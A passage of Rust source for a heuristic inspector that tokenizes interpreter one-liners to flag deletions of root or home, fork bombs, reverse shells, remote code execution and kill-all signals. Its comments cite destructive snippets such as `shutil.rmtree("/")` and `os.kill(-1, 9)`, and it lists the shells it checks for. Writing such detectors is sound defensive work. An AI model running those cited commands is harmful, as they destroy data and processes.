//! What an interpreter one-liner (`python3 -c`, `perl -e`, `node -e`…) does, read heuristically.
//!
//! The code is never run and not fully parsed. A small scanner per language cuts it into tokens
//! and knows that language's strings, comments, heredocs and quote-like operators, so an API
//! name is only ever seen where it is code: `print("os.remove('/')")` and `# shutil.rmtree("/")`
//! hold no calls. Calls are matched against tables of each language's real APIs
//! (`shutil.rmtree`, `fs.rmSync`, `FileUtils.rm_rf`, `pcntl_fork`…), through the aliases that
//! imports create, and their arguments are read back from the tokens: string literals
//! (unescaped, with interpolations resolved where they can be), home-directory expressions,
//! path joins, concatenations and argument lists. A last pass follows the block structure
//! (brackets, `do … end`, indentation) to tell whether a fork sits inside a loop.
//!
//! Only the first [`MAX_INSPECTED`] bytes are read, every pass is linear or bounded, and nothing
//! here panics on any input.

use std::collections::{HashMap, HashSet};
use std::ops::Range;

/// Languages whose inline code is inspected.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(super) enum Lang {
    Python,
    Perl,
    Ruby,
    Node,
    Php,
    Lua,
}

/// A deletion the code performs.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(super) struct Delete {
    /// The target as a shell path: `~` for the home directory, `/` for the root, a literal path
    /// as written, or `?` when it cannot be told.
    pub target: String,
    pub recursive: bool,
}

/// What the code was seen to do.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub(super) struct CodeFacts {
    pub deletes: Vec<Delete>,
    /// Files opened for writing or appending, as shell paths (same conventions as `Delete`).
    pub writes: Vec<String>,
    /// Forks in a loop: a fork bomb.
    pub fork_loop: bool,
    /// Connects a socket and hands it a shell.
    pub reverse_shell: bool,
    /// Runs code fetched from the network.
    pub remote_exec: bool,
    /// Sends every process a signal (`os.kill(-1, 9)`).
    pub kills_all: bool,
    /// Shell command strings handed to `system`, `subprocess`, `exec`, backticks…
    pub shell_commands: Vec<String>,
}

/// Code past this many bytes is not inspected: one-liners are short, and the work stays bounded.
const MAX_INSPECTED: usize = 64 * 1024;

/// How deeply expressions (brackets, string interpolations, nested templates) are followed.
const MAX_DEPTH: usize = 16;

/// How far back a method's receiver, or an open block, is looked for.
const MAX_LOOKBACK: usize = 64;

/// The most tokens an argument list without brackets (`system "a", "b"`) spans.
const MAX_BARE_ARGUMENTS: usize = 256;

/// The most bytes an interpolation (`#{…}`, `${…}`) or a braced escape spans.
const MAX_INTERPOLATION: usize = 512;

/// Programs that are shells: launching one on a connected socket makes a reverse shell.
const SHELLS: &[&str] = &[
    "sh", "bash", "zsh", "dash", "ksh", "ash", "mksh", "csh", "tcsh", "fish", "busybox",
];

/// Reports what `code`, written in `lang`, does.
pub(super) fn inspect(lang: Lang, code: &str) -> CodeFacts {
    let source = Source::new(lang, head(code, MAX_INSPECTED));
    Inspector::new(&source).run()
}

/// The longest prefix of `s` that fits in `max` bytes and ends on a character boundary.
fn head(s: &str, max: usize) -> &str {
    let mut end = max.min(s.len());
    while !s.is_char_boundary(end) {
        end -= 1;
    }
    &s[..end]
}

// ---------------------------------------------------------------------------------------------
// Tokens
// ---------------------------------------------------------------------------------------------

/// How backslashes in a string literal are read.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Escapes {
    /// Kept as written: `r"…"`, Lua long strings, nowdocs, `<<'EOF'`.
    Raw,
    /// Only `\\` and an escaped delimiter: single quotes in Perl, Ruby and PHP.
    Quote,
    /// `\n`, `\t`, `\xHH`…: double quotes.
    Full,
}

/// How a string literal embeds code.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Interp {
    None,
    /// Python f-strings: `{expr}`.
    Braces,
    /// JavaScript templates: `${expr}`.
    DollarBraces,
    /// Ruby: `#{expr}`.
    HashBraces,
    /// Perl and PHP: `$name`, `$ENV{HOME}`, `{$expr}`.
    Sigils,
}

/// What a string literal stands for.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Role {
    /// An ordinary string.
    Text,
    /// A command run by a shell where it stands: backticks, `qx{}`, `%x()`.
    Command,
    /// A list of words: `qw()`, `%w()`.
    Words,
}

/// A string literal: where its body lies and how to read it.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
struct Lit {
    start: usize,
    end: usize,
    escapes: Escapes,
    interp: Interp,
    role: Role,
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Kind {
    Ident,
    Number,
    /// Punctuation: one ASCII byte, or one of the language's multi-byte operators.
    Op,
    Str(Lit),
    /// A regular expression or substitution literal: data, never read.
    Regex,
}

/// A token. Its bounds always fall on character boundaries: they sit next to ASCII bytes, and
/// every non-ASCII byte outside literals belongs to an identifier.
#[derive(Debug, Clone, Copy)]
struct Token {
    kind: Kind,
    start: usize,
    end: usize,
    /// A line break comes between this token and the previous one.
    nl_before: bool,
    /// Byte column where the token starts (Python indentation).
    col: usize,
}

fn is_ident_byte(c: u8) -> bool {
    c.is_ascii_alphanumeric() || c == b'_' || c >= 0x80
}

/// The closing delimiter that goes with `open` (`(` → `)`); other delimiters close themselves.
fn closing(open: u8) -> u8 {
    match open {
        b'(' => b')',
        b'[' => b']',
        b'{' => b'}',
        b'<' => b'>',
        other => other,
    }
}

/// Words after which an expression, not an operator, is expected.
fn is_prefix_keyword(lang: Lang, word: &str) -> bool {
    match lang {
        Lang::Node => matches!(
            word,
            "return"
                | "typeof"
                | "instanceof"
                | "in"
                | "of"
                | "new"
                | "delete"
                | "void"
                | "throw"
                | "case"
                | "do"
                | "else"
                | "yield"
                | "await"
        ),
        Lang::Perl => matches!(
            word,
            "return"
                | "and"
                | "or"
                | "not"
                | "if"
                | "unless"
                | "while"
                | "until"
                | "split"
                | "grep"
                | "map"
                | "join"
                | "push"
                | "unshift"
                | "x"
                | "eq"
                | "ne"
                | "lt"
                | "gt"
                | "le"
                | "ge"
                | "cmp"
                | "when"
                | "print"
        ),
        Lang::Ruby => matches!(
            word,
            "and"
                | "or"
                | "not"
                | "if"
                | "unless"
                | "while"
                | "until"
                | "when"
                | "in"
                | "do"
                | "then"
                | "else"
                | "elsif"
                | "begin"
                | "case"
                | "rescue"
                | "ensure"
        ),
        Lang::Python | Lang::Php | Lang::Lua => false,
    }
}

/// Whether a token ends an operand, so that what follows is an operator (`a / b`) rather than
/// the start of an expression (`= /re/`).
fn ends_operand(lang: Lang, kind: Kind, text: &str) -> bool {
    match kind {
        Kind::Number | Kind::Str(_) | Kind::Regex => true,
        Kind::Ident => !is_prefix_keyword(lang, text),
        Kind::Op => matches!(text, ")" | "]" | "}"),
    }
}

/// A heredoc whose body starts on the next line.
struct Heredoc {
    token: usize,
    tag: String,
    /// PHP's terminator may be followed by `;` on its line.
    php: bool,
}

/// The scanner: one pass over the code, producing tokens.
struct Lexer<'a> {
    lang: Lang,
    src: &'a str,
    bytes: &'a [u8],
    pos: usize,
    line_start: usize,
    nl: bool,
    tokens: Vec<Token>,
    heredocs: Vec<Heredoc>,
    /// A regex literal that failed to close ran up to here: no other is tried before it.
    regex_blocked_until: usize,
}

fn tokenize(lang: Lang, src: &str) -> Vec<Token> {
    Lexer {
        lang,
        src,
        bytes: src.as_bytes(),
        pos: 0,
        line_start: 0,
        nl: false,
        tokens: Vec::new(),
        heredocs: Vec::new(),
        regex_blocked_until: 0,
    }
    .run()
}

impl<'a> Lexer<'a> {
    fn run(mut self) -> Vec<Token> {
        while let Some(c) = self.peek(0) {
            if c == b'\n' {
                self.newline();
            } else if c.is_ascii_whitespace() || c == 0x0b {
                self.pos += 1;
            } else if c == b'\\' && self.lang == Lang::Python && self.peek(1) == Some(b'\n') {
                self.pos += 2;
                self.line_start = self.pos;
            } else {
                let skipped =
                    (self.pos == self.line_start && self.skip_doc_block()) || self.skip_comment();
                if !skipped && !self.token() {
                    break; // `__END__`: the rest is data
                }
            }
        }
        self.tokens
    }

    fn peek(&self, ahead: usize) -> Option<u8> {
        self.bytes.get(self.pos + ahead).copied()
    }

    fn starts_with(&self, s: &str) -> bool {
        self.bytes
            .get(self.pos..)
            .is_some_and(|rest| rest.starts_with(s.as_bytes()))
    }

    /// The index of the line break at or after `from`, or the end of the code.
    fn line_end(&self, from: usize) -> usize {
        self.bytes
            .get(from..)
            .and_then(|rest| rest.iter().position(|&c| c == b'\n'))
            .map_or(self.bytes.len(), |k| from + k)
    }

    fn newline(&mut self) {
        self.pos += 1;
        self.line_start = self.pos;
        self.nl = true;
        if !self.heredocs.is_empty() {
            self.heredoc_bodies();
        }
    }

    fn push(&mut self, kind: Kind, start: usize, end: usize) {
        self.tokens.push(Token {
            kind,
            start,
            end,
            nl_before: self.nl,
            col: start.saturating_sub(self.line_start),
        });
        self.nl = false;
    }

    fn push_str(&mut self, start: usize, after: usize, lit: Lit) {
        self.push(Kind::Str(lit), start, after);
        self.pos = after;
    }

    fn prev_ends_operand(&self) -> bool {
        self.tokens.last().is_some_and(|t| {
            let text = self.src.get(t.start..t.end).unwrap_or("");
            ends_operand(self.lang, t.kind, text)
        })
    }

    /// Ruby's `=begin … =end` and Perl's POD, both starting at the beginning of a line.
    fn skip_doc_block(&mut self) -> bool {
        let marker = match self.lang {
            Lang::Ruby if self.starts_with("=begin") => "\n=end",
            Lang::Perl
                if self.peek(0) == Some(b'=')
                    && self.peek(1).is_some_and(|c| c.is_ascii_alphabetic()) =>
            {
                "\n=cut"
            }
            _ => return false,
        };
        let rest = self.src.get(self.pos..).unwrap_or("");
        self.pos = match rest.find(marker) {
            Some(k) => self.line_end(self.pos + k + 1),
            None => self.bytes.len(),
        };
        true
    }

    fn skip_comment(&mut self) -> bool {
        let (c, next) = (self.peek(0), self.peek(1));
        let to_line_end = match self.lang {
            Lang::Python | Lang::Ruby => c == Some(b'#'),
            // `$#array` is no comment.
            Lang::Perl => c == Some(b'#') && !(self.pos > 0 && self.bytes[self.pos - 1] == b'$'),
            Lang::Php => c == Some(b'#') || (c == Some(b'/') && next == Some(b'/')),
            Lang::Node => {
                (c == Some(b'/') && next == Some(b'/'))
                    || (self.pos == 0 && c == Some(b'#') && next == Some(b'!'))
            }
            Lang::Lua => c == Some(b'-') && next == Some(b'-'),
        };
        if to_line_end {
            if self.lang == Lang::Lua {
                if let Some(level) = self.long_bracket(self.pos + 2) {
                    self.pos = self.long_bracket_end(self.pos + level + 4, level).1;
                    return true;
                }
            }
            self.pos = self.line_end(self.pos);
            return true;
        }
        if matches!(self.lang, Lang::Node | Lang::Php) && c == Some(b'/') && next == Some(b'*') {
            let rest = self.src.get(self.pos + 2..).unwrap_or("");
            let end = rest
                .find("*/")
                .map_or(self.bytes.len(), |k| self.pos + 2 + k + 2);
            if let Some(k) = self.src.get(self.pos..end).and_then(|s| s.rfind('\n')) {
                self.nl = true;
                self.line_start = self.pos + k + 1;
            }
            self.pos = end;
            return true;
        }
        false
    }

    /// Scans one token; false at a marker after which the rest is data (`__END__`).
    fn token(&mut self) -> bool {
        let c = self.bytes[self.pos];
        if is_ident_byte(c) && !c.is_ascii_digit() {
            return self.word();
        }
        if c.is_ascii_digit() {
            self.number();
            return true;
        }
        let done = match (self.lang, c) {
            (_, b'"' | b'\'') => {
                self.quoted(c);
                true
            }
            (Lang::Node, b'`') => {
                self.template();
                true
            }
            (Lang::Perl | Lang::Ruby | Lang::Php, b'`') => {
                let interp = self.double_quote_interp();
                self.simple_string(false, Escapes::Full, interp, Role::Command);
                true
            }
            (Lang::Node | Lang::Perl | Lang::Ruby, b'/') => {
                self.pos >= self.regex_blocked_until && !self.prev_ends_operand() && self.regex()
            }
            (Lang::Ruby, b'%') => self.percent_literal(),
            (Lang::Perl | Lang::Ruby | Lang::Php, b'<') => self.heredoc(),
            (Lang::Lua, b'[') => self.lua_long_string(),
            _ => false,
        };
        if !done {
            self.op();
        }
        true
    }

    fn double_quote_interp(&self) -> Interp {
        match self.lang {
            Lang::Python => Interp::None,
            Lang::Node => Interp::DollarBraces,
            Lang::Ruby => Interp::HashBraces,
            Lang::Perl | Lang::Php => Interp::Sigils,
            Lang::Lua => Interp::None,
        }
    }

    fn word(&mut self) -> bool {
        let start = self.pos;
        let mut end = start;
        while self.bytes.get(end).is_some_and(|&c| is_ident_byte(c)) {
            end += 1;
        }
        let word = self.src.get(start..end).unwrap_or("");
        self.pos = end;
        match self.lang {
            Lang::Perl | Lang::Ruby
                if start == self.line_start && matches!(word, "__END__" | "__DATA__") =>
            {
                return false;
            }
            Lang::Python
                if word.len() <= 2
                    && word.bytes().all(|c| b"rRbBuUfF".contains(&c))
                    && matches!(self.peek(0), Some(b'\'' | b'"')) =>
            {
                self.python_string(start, word);
                return true;
            }
            _ => {}
        }
        if self.lang == Lang::Perl && self.perl_quote_like(start, word) {
            return true;
        }
        self.push(Kind::Ident, start, end);
        true
    }

    fn number(&mut self) {
        let start = self.pos;
        let mut end = start;
        while let Some(&c) = self.bytes.get(end) {
            let decimal_point =
                c == b'.' && self.bytes.get(end + 1).is_some_and(|d| d.is_ascii_digit());
            if !(c.is_ascii_alphanumeric() || c == b'_' || decimal_point) {
                break;
            }
            end += 1;
        }
        self.pos = end;
        self.push(Kind::Number, start, end);
    }

    fn op(&mut self) {
        let start = self.pos;
        let len = self
            .multi_byte_ops()
            .iter()
            .find(|op| self.starts_with(op))
            .map_or(1, |op| op.len());
        self.pos += len;
        self.push(Kind::Op, start, start + len);
    }

    /// The operators that are read as one token, longest first.
    fn multi_byte_ops(&self) -> &'static [&'static str] {
        match self.lang {
            Lang::Python => &["**", "//", "==", "!=", "<=", ">=", "->", ":="],
            Lang::Node => &[
                "===", "!==", "...", "?.", "=>", "==", "!=", "&&", "||", "<=", ">=",
            ],
            Lang::Ruby => &[
                "...", "::", "&.", "=>", "==", "!=", "&&", "||", "<=", ">=", "..", "=~", "<<",
            ],
            Lang::Perl => &[
                "::", "->", "=>", "==", "!=", "&&", "||", "<=", ">=", "..", "=~", "!~", "<<",
            ],
            Lang::Php => &[
                "?->", "===", "!==", "::", "->", "=>", "==", "!=", "&&", "||", "<=", ">=",
            ],
            Lang::Lua => &["...", "..", "::", "==", "~=", "<=", ">="],
        }
    }

    /// Scans a body from `from` to the delimiter `close`, nesting on `open` when the two
    /// differ; a backslash escapes the next byte. Returns where the body ends and where the
    /// literal ends; an unterminated literal runs to the end of the code (or of the line).
    fn scan_delimited(
        &self,
        from: usize,
        open: u8,
        close: u8,
        stop_at_newline: bool,
    ) -> (usize, usize) {
        let mut depth = 0usize;
        let mut i = from;
        while let Some(&c) = self.bytes.get(i) {
            if c == b'\\' {
                i += 2;
                continue;
            }
            if c == close {
                if depth == 0 {
                    return (i, i + 1);
                }
                depth -= 1;
            } else if c == open && open != close {
                depth += 1;
            } else if c == b'\n' && stop_at_newline {
                return (i, i);
            }
            i += 1;
        }
        (self.bytes.len(), self.bytes.len())
    }

    /// Quotes as each language reads them.
    fn quoted(&mut self, quote: u8) {
        match self.lang {
            Lang::Python => self.python_string(self.pos, ""),
            Lang::Node | Lang::Lua => {
                self.simple_string(true, Escapes::Full, Interp::None, Role::Text)
            }
            Lang::Perl | Lang::Php | Lang::Ruby if quote == b'"' => {
                let interp = self.double_quote_interp();
                self.simple_string(false, Escapes::Full, interp, Role::Text)
            }
            Lang::Perl | Lang::Php | Lang::Ruby => {
                self.simple_string(false, Escapes::Quote, Interp::None, Role::Text)
            }
        }
    }

    /// A string closed by the same quote that opens it, at `self.pos`.
    fn simple_string(
        &mut self,
        stop_at_newline: bool,
        escapes: Escapes,
        interp: Interp,
        role: Role,
    ) {
        let start = self.pos;
        let quote = self.bytes[start];
        let (end, after) = self.scan_delimited(start + 1, quote, quote, stop_at_newline);
        let lit = Lit {
            start: start + 1,
            end,
            escapes,
            interp,
            role,
        };
        self.push_str(start, after, lit);
    }

    /// A Python string whose prefix (`r`, `b`, `f`…) starts at `start`, its quote at `self.pos`.
    fn python_string(&mut self, start: usize, prefix: &str) {
        let open = self.pos;
        let quote = self.bytes[open];
        let triple = self.peek(1) == Some(quote) && self.peek(2) == Some(quote);
        let (body, end, after) = if triple {
            let (end, after) = self.scan_triple(open + 3, quote);
            (open + 3, end, after)
        } else {
            let (end, after) = self.scan_delimited(open + 1, quote, quote, true);
            (open + 1, end, after)
        };
        let raw = prefix.contains(['r', 'R']);
        let lit = Lit {
            start: body,
            end,
            escapes: if raw { Escapes::Raw } else { Escapes::Full },
            interp: if prefix.contains(['f', 'F']) {
                Interp::Braces
            } else {
                Interp::None
            },
            role: Role::Text,
        };
        self.push_str(start, after, lit);
    }

    fn scan_triple(&self, from: usize, quote: u8) -> (usize, usize) {
        let closer = [quote; 3];
        let mut i = from;
        while let Some(&c) = self.bytes.get(i) {
            if c == b'\\' {
                i += 2;
                continue;
            }
            if self.bytes.get(i..i + 3) == Some(&closer[..]) {
                return (i, i + 3);
            }
            i += 1;
        }
        (self.bytes.len(), self.bytes.len())
    }

    /// A JavaScript template literal, its backtick at `self.pos`.
    fn template(&mut self) {
        let start = self.pos;
        let (end, after) = self.scan_template(start + 1, 0);
        let lit = Lit {
            start: start + 1,
            end,
            escapes: Escapes::Full,
            interp: Interp::DollarBraces,
            role: Role::Text,
        };
        self.push_str(start, after, lit);
    }

    fn scan_template(&self, from: usize, nesting: usize) -> (usize, usize) {
        let mut i = from;
        while let Some(&c) = self.bytes.get(i) {
            match c {
                b'\\' => i += 2,
                b'`' => return (i, i + 1),
                b'$' if self.bytes.get(i + 1) == Some(&b'{') => {
                    i = self.skip_template_expr(i + 2, nesting)
                }
                _ => i += 1,
            }
        }
        (self.bytes.len(), self.bytes.len())
    }

    /// Skips the code of a `${…}` inside a template; returns the index after its `}`.
    fn skip_template_expr(&self, from: usize, nesting: usize) -> usize {
        let mut depth = 1usize;
        let mut i = from;
        while let Some(&c) = self.bytes.get(i) {
            match c {
                b'{' => depth += 1,
                b'}' => {
                    depth -= 1;
                    if depth == 0 {
                        return i + 1;
                    }
                }
                b'\'' | b'"' => {
                    i = self.scan_delimited(i + 1, c, c, true).1;
                    continue;
                }
                b'`' if nesting < MAX_DEPTH => {
                    i = self.scan_template(i + 1, nesting + 1).1;
                    continue;
                }
                _ => {}
            }
            i += 1;
        }
        self.bytes.len()
    }

    /// A `/regex/flags` literal, where an expression is expected; false if it does not close on
    /// its line (then it was a division after all).
    fn regex(&mut self) -> bool {
        let start = self.pos;
        let mut class = false;
        let mut i = start + 1;
        while let Some(&c) = self.bytes.get(i) {
            match c {
                b'\\' => {
                    i += 2;
                    continue;
                }
                b'\n' => break,
                b'[' => class = true,
                b']' => class = false,
                b'/' if !class => {
                    let end = self.skip_flags(i + 1);
                    self.pos = end;
                    self.push(Kind::Regex, start, end);
                    return true;
                }
                _ => {}
            }
            i += 1;
        }
        self.regex_blocked_until = i;
        false
    }

    fn skip_flags(&self, mut i: usize) -> usize {
        while self.bytes.get(i).is_some_and(|c| c.is_ascii_alphabetic()) {
            i += 1;
        }
        i
    }

    /// Ruby's `%q(…)`, `%w[…]`, `%x{…}`, `%(…)`…, its `%` at `self.pos`.
    fn percent_literal(&mut self) -> bool {
        let start = self.pos;
        let letter = self.peek(1).filter(|c| b"qQwWiIxrs".contains(c));
        let delim_at = start + 1 + usize::from(letter.is_some());
        let Some(&open) = self.bytes.get(delim_at) else {
            return false;
        };
        if open.is_ascii_alphanumeric()
            || open.is_ascii_whitespace()
            || open == b'='
            || open >= 0x80
        {
            return false;
        }
        if letter.is_none() && self.prev_ends_operand() {
            return false;
        }
        let (end, after) = self.scan_delimited(delim_at + 1, open, closing(open), false);
        let lit = |escapes, interp, role| Lit {
            start: delim_at + 1,
            end,
            escapes,
            interp,
            role,
        };
        let kind = match letter {
            Some(b'q' | b's') => Kind::Str(lit(Escapes::Quote, Interp::None, Role::Text)),
            Some(b'w' | b'i') => Kind::Str(lit(Escapes::Quote, Interp::None, Role::Words)),
            Some(b'W' | b'I') => Kind::Str(lit(Escapes::Full, Interp::HashBraces, Role::Words)),
            Some(b'x') => Kind::Str(lit(Escapes::Full, Interp::HashBraces, Role::Command)),
            Some(b'r') => Kind::Regex,
            _ => Kind::Str(lit(Escapes::Full, Interp::HashBraces, Role::Text)),
        };
        self.pos = self.skip_flags(after);
        self.push(kind, start, self.pos);
        true
    }

    /// Perl's `q()`, `qq{}`, `qw//`, `qx()`, `m//`, `qr//`, `s///`, `tr///`, `y///`, the
    /// operator word spanning `start..self.pos`.
    fn perl_quote_like(&mut self, start: usize, word: &str) -> bool {
        let parts = match word {
            "q" | "qq" | "qw" | "qx" | "m" | "qr" => 1,
            "s" | "tr" | "y" => 2,
            _ => return false,
        };
        // `$s`, `->s`, `%q` are names.
        if let Some(prev) = self.tokens.last() {
            let text = self.src.get(prev.start..prev.end).unwrap_or("");
            if prev.end == start && matches!(text, "$" | "@" | "%" | "&" | "*" | "->" | "::") {
                return false;
            }
        }
        let mut i = self.pos;
        while matches!(self.bytes.get(i), Some(b' ' | b'\t')) {
            i += 1;
        }
        let Some(&open) = self.bytes.get(i) else {
            return false;
        };
        let spaced = i > self.pos;
        if is_ident_byte(open)
            || open.is_ascii_whitespace()
            || b",;)]}>=".contains(&open)
            || (spaced && open == b'#')
        {
            return false;
        }
        let close = closing(open);
        let (first_end, mut after) = self.scan_delimited(i + 1, open, close, false);
        if parts == 2 {
            if open == close {
                after = self.scan_delimited(after, open, close, false).1;
            } else {
                let mut j = after;
                while self.bytes.get(j).is_some_and(|c| c.is_ascii_whitespace()) {
                    j += 1;
                }
                if let Some(&second) = self.bytes.get(j).filter(|&&c| !is_ident_byte(c)) {
                    after = self.scan_delimited(j + 1, second, closing(second), false).1;
                }
            }
        }
        let end = self.skip_flags(after);
        let lit = |escapes, interp, role| {
            Kind::Str(Lit {
                start: i + 1,
                end: first_end,
                escapes,
                interp,
                role,
            })
        };
        let interp = if open == b'\'' {
            Interp::None
        } else {
            Interp::Sigils
        };
        let kind = match word {
            "q" => lit(Escapes::Quote, Interp::None, Role::Text),
            "qq" => lit(Escapes::Full, interp, Role::Text),
            "qw" => lit(Escapes::Quote, Interp::None, Role::Words),
            "qx" => lit(Escapes::Full, interp, Role::Command),
            _ => Kind::Regex,
        };
        self.pos = end;
        self.push(kind, start, end);
        true
    }

    /// `<<EOF`, `<<~'EOF'` (Perl, Ruby) and `<<<EOT` (PHP), at `self.pos`. The body is read
    /// at the next line break.
    fn heredoc(&mut self) -> bool {
        let start = self.pos;
        let php = self.lang == Lang::Php;
        if !self.starts_with(if php { "<<<" } else { "<<" }) {
            return false;
        }
        let mut i = start + if php { 3 } else { 2 };
        if php {
            while matches!(self.bytes.get(i), Some(b' ' | b'\t')) {
                i += 1;
            }
        } else if matches!(self.bytes.get(i), Some(b'~'))
            || (self.lang == Lang::Ruby && matches!(self.bytes.get(i), Some(b'-')))
        {
            i += 1;
        }
        let quote = match self.bytes.get(i) {
            Some(&q @ (b'\'' | b'"' | b'`')) => {
                i += 1;
                Some(q)
            }
            _ => None,
        };
        let tag_start = i;
        while self
            .bytes
            .get(i)
            .is_some_and(|&c| c.is_ascii_alphanumeric() || c == b'_')
        {
            i += 1;
        }
        let tag = self.src.get(tag_start..i).unwrap_or("").to_string();
        if tag.is_empty() {
            return false;
        }
        if let Some(q) = quote {
            if self.bytes.get(i) != Some(&q) {
                return false;
            }
            i += 1;
        } else if !php {
            // A bare tag is only taken in the conventional capitals, where `<<` is no shift.
            let capitals = tag
                .bytes()
                .all(|c| c.is_ascii_uppercase() || c.is_ascii_digit() || c == b'_')
                && !tag.as_bytes()[0].is_ascii_digit();
            if !capitals {
                return false;
            }
        }
        if self.lang == Lang::Ruby && self.prev_ends_operand() {
            // `a <<B` is a heredoc only with a space before `<<` (and none after).
            if !(start > 0 && matches!(self.bytes[start - 1], b' ' | b'\t')) {
                return false;
            }
        }
        let interp = self.double_quote_interp();
        let (escapes, interp, role) = match quote {
            Some(b'\'') => (Escapes::Raw, Interp::None, Role::Text),
            Some(b'`') => (Escapes::Full, interp, Role::Command),
            _ => (Escapes::Full, interp, Role::Text),
        };
        let token = self.tokens.len();
        let lit = Lit {
            start: i,
            end: i,
            escapes,
            interp,
            role,
        };
        self.push_str(start, i, lit);
        self.heredocs.push(Heredoc { token, tag, php });
        true
    }

    /// Reads the bodies of the heredocs opened on the line that just ended.
    fn heredoc_bodies(&mut self) {
        let pending = std::mem::take(&mut self.heredocs);
        let count = pending.len();
        for (k, doc) in pending.into_iter().enumerate() {
            let body_start = self.pos;
            let mut line = self.pos;
            let (body_end, resume) = loop {
                if line >= self.bytes.len() {
                    break (self.bytes.len(), self.bytes.len());
                }
                let end = self.line_end(line);
                let text = self.src.get(line..end).unwrap_or("");
                if let Some(rest) = text.trim_start().strip_prefix(doc.tag.as_str()) {
                    let closes = if doc.php {
                        !rest.bytes().next().is_some_and(is_ident_byte)
                    } else {
                        rest.trim().is_empty()
                    };
                    if closes {
                        break (line, end - rest.len());
                    }
                }
                line = end + 1;
            };
            if let Some(Kind::Str(lit)) = self.tokens.get_mut(doc.token).map(|t| &mut t.kind) {
                lit.start = body_start;
                lit.end = body_end;
            }
            // Another heredoc's body starts on the line after this one's terminator.
            self.pos = if k + 1 < count {
                (self.line_end(resume) + 1).min(self.bytes.len())
            } else {
                resume
            };
            self.line_start = line.min(self.bytes.len());
        }
    }

    /// Lua's `[[…]]`, `[==[…]==]` at `self.pos`.
    fn lua_long_string(&mut self) -> bool {
        let Some(level) = self.long_bracket(self.pos) else {
            return false;
        };
        let start = self.pos;
        let body = start + level + 2;
        let (end, after) = self.long_bracket_end(body, level);
        let lit = Lit {
            start: body,
            end,
            escapes: Escapes::Raw,
            interp: Interp::None,
            role: Role::Text,
        };
        self.push_str(start, after, lit);
        true
    }

    /// The level (number of `=`) of a Lua long bracket opening at `at`.
    fn long_bracket(&self, at: usize) -> Option<usize> {
        if self.bytes.get(at) != Some(&b'[') {
            return None;
        }
        let level = self
            .bytes
            .get(at + 1..)?
            .iter()
            .take_while(|&&c| c == b'=')
            .count();
        (self.bytes.get(at + 1 + level) == Some(&b'[')).then_some(level)
    }

    fn long_bracket_end(&self, from: usize, level: usize) -> (usize, usize) {
        let close = format!("]{}]", "=".repeat(level));
        match self.src.get(from..).and_then(|rest| rest.find(&close)) {
            Some(k) => (from + k, from + k + close.len()),
            None => (self.bytes.len(), self.bytes.len()),
        }
    }
}

// ---------------------------------------------------------------------------------------------
// Source: tokens with bracket matching, and the evaluation of expressions
// ---------------------------------------------------------------------------------------------

/// What an expression is known to be.
#[derive(Debug, Clone, PartialEq)]
enum Value {
    /// A string, in full or with `?` standing for the parts that cannot be told (`partial`).
    Text {
        text: String,
        partial: bool,
    },
    /// A list or tuple.
    List(Vec<Value>),
    /// The process environment: `os.environ`, `ENV`, `process.env`, `$ENV`.
    Env,
    /// A bare name: a module, a class, a function or a variable (`os`, `Path`, `FileUtils`).
    Name(String),
    Unknown,
}

impl Value {
    fn exact(text: impl Into<String>) -> Value {
        Value::Text {
            text: text.into(),
            partial: false,
        }
    }

    fn home() -> Value {
        Value::exact("~")
    }

    /// The string, when it is known in full.
    fn exact_text(&self) -> Option<&str> {
        match self {
            Value::Text {
                text,
                partial: false,
            } => Some(text),
            _ => None,
        }
    }

    /// The string, with `?` for its unknown parts.
    fn any_text(&self) -> Option<&str> {
        match self {
            Value::Text { text, .. } => Some(text),
            _ => None,
        }
    }

    /// As a target path: the string when known in full, else `?`.
    fn path(&self) -> String {
        match self.exact_text() {
            Some(text) if !text.is_empty() => text.to_string(),
            _ => "?".to_string(),
        }
    }
}

/// How two operands are joined.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Join {
    /// `+`, `.`, `..`: concatenation.
    Concat,
    /// Python's `Path / "x"`.
    Path,
}

/// Joins path parts the way `os.path.join` does (an absolute part starts over when `reset`).
fn join_path(base: &str, part: &str, reset: bool) -> String {
    if base.is_empty() || (reset && part.starts_with('/')) {
        part.to_string()
    } else {
        format!(
            "{}/{}",
            base.trim_end_matches('/'),
            part.trim_start_matches('/')
        )
    }
}

/// Normalises a module name from `require("node:fs/promises")`, `__import__("os")`,
/// `require("socket.http")` to its last part.
fn module_name(name: &str) -> String {
    let name = name.strip_prefix("node:").unwrap_or(name);
    name.rsplit(['/', '.']).next().unwrap_or(name).to_string()
}

/// Code cut into tokens, with brackets matched.
struct Source<'a> {
    lang: Lang,
    code: &'a str,
    tokens: Vec<Token>,
    /// For each bracket token, the index of its partner.
    partner: Vec<Option<usize>>,
}

impl<'a> Source<'a> {
    fn new(lang: Lang, code: &'a str) -> Source<'a> {
        let tokens = tokenize(lang, code);
        let mut source = Source {
            lang,
            code,
            partner: vec![None; tokens.len()],
            tokens,
        };
        source.match_brackets();
        source
    }

    fn match_brackets(&mut self) {
        let mut open: Vec<(usize, &str)> = Vec::new();
        for i in 0..self.tokens.len() {
            match self.op(i) {
                Some(b @ ("(" | "[" | "{")) => open.push((i, b)),
                Some(c @ (")" | "]" | "}")) => {
                    let matches = open
                        .last()
                        .is_some_and(|&(_, b)| closing(b.as_bytes()[0]) == c.as_bytes()[0]);
                    if matches {
                        if let Some((o, _)) = open.pop() {
                            self.partner[o] = Some(i);
                            self.partner[i] = Some(o);
                        }
                    }
                }
                _ => {}
            }
        }
    }

    fn len(&self) -> usize {
        self.tokens.len()
    }

    fn text(&self, i: usize) -> &'a str {
        self.tokens
            .get(i)
            .and_then(|t| self.code.get(t.start..t.end))
            .unwrap_or("")
    }

    fn kind(&self, i: usize) -> Option<Kind> {
        self.tokens.get(i).map(|t| t.kind)
    }

    fn op(&self, i: usize) -> Option<&'a str> {
        (self.kind(i)? == Kind::Op).then(|| self.text(i))
    }

    fn is_op(&self, i: usize, op: &str) -> bool {
        self.op(i) == Some(op)
    }

    fn ident(&self, i: usize) -> Option<&'a str> {
        (self.kind(i)? == Kind::Ident).then(|| self.text(i))
    }

    fn lit(&self, i: usize) -> Option<Lit> {
